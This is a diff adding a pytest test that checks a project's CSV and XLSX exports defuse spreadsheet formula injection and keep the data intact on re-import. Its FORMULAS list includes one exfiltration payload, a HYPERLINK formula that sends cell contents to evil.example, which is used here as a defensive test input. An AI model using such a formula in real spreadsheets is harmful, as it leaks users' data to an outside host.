@@ -278,3 +278,43 @@ def test_import_that_adds_a_name_reports_a_change(session):
     assert added.action == "create"
     again = import_file(session=session, actor=SYSTEM, kind="org", name="b.csv", content=more)
     assert (again.updated, again.unchanged) == (0, 1)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "=1+1", "+1", "-2+3", "@SUM(A1)", "＝1"]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_export_neutralises_formulas(session, fmt):
+    import csv
+
+    from openpyxl import load_workbook
+
+    from cooplab.core.spreadsheets import write_csv
+    from tests.factories import make_org
+
+    for i, formula in enumerate(FORMULAS):
+        make_org(session, f"Org {i}", description=formula)
+    session.commit()
+    data = export_records(session=session, actor=SYSTEM, kind="org", fmt=fmt)
+    if fmt == "csv":
+        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+        cells = [row[rows[0].index("description")] for row in rows[1:]]
+    else:
+        sheet = load_workbook(io.BytesIO(data)).active
+        rows = list(sheet.iter_rows())
+        column = [c.value for c in rows[0]].index("description")
+        assert all(row[column].data_type == "s" for row in rows[1:])
+        cells = [row[column].value for row in rows[1:]]
+    assert cells == ["'" + f for f in FORMULAS]
+    # a tab or a carriage return opens a formula too (descriptions lose them at the boundary)
+    assert next(csv.reader(io.StringIO(write_csv([["\t=1", "\r=1", "a=1"]]).decode("utf-8-sig")))) == [
+        "'\t=1",
+        "'\r=1",
+        "a=1",
+    ]
+    # and reading the file back gives the texts as they were
+    before = sorted(session.scalars(select(Organization.description)))
+    report = import_file(session=session, actor=SYSTEM, kind="org", name=f"orgs.{fmt}", content=data)
+    assert report.unchanged == len(FORMULAS)
+    session.expire_all()
+    assert sorted(session.scalars(select(Organization.description))) == before
